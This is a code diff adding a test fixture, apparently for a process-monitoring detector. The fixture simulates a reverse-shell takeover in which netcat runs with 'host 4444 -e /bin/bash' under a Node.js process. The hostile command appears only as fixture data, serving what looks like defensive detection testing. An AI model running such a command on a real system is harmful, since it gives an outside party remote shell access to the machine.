@@ -69,6 +69,16 @@ export const STORY: readonly string[] = [
   event('process_close', 600, { process: SHELL, ...SOCKET, sock_cookie: '18446635882140893184', protocol: 'TCP' }),
 ];
 
+const CLIENT = process(495, 200, '/usr/bin/nc', 'host 4444 -e /bin/bash', NODE_JS.exec_id);
+
+/** A network client that becomes a shell while its connection is open: the plainest reverse shell there is. */
+export const TAKEN_OVER: readonly string[] = [
+  event('process_exec', 60, { process: NODE_JS }),
+  event('process_exec', 495, { process: CLIENT, parent: NODE_JS }),
+  event('process_connect', 496, { process: CLIENT, ...SOCKET, sock_cookie: '18446635882140893184', protocol: 'TCP' }),
+  event('process_exec', 500, { process: { ...SHELL, flags: 'execve', parent_exec_id: CLIENT.exec_id }, parent: CLIENT }),
+];
+
 /** Exec id of the reverse shell of the story. */
 export const SHELL_ID = SHELL.exec_id;
 
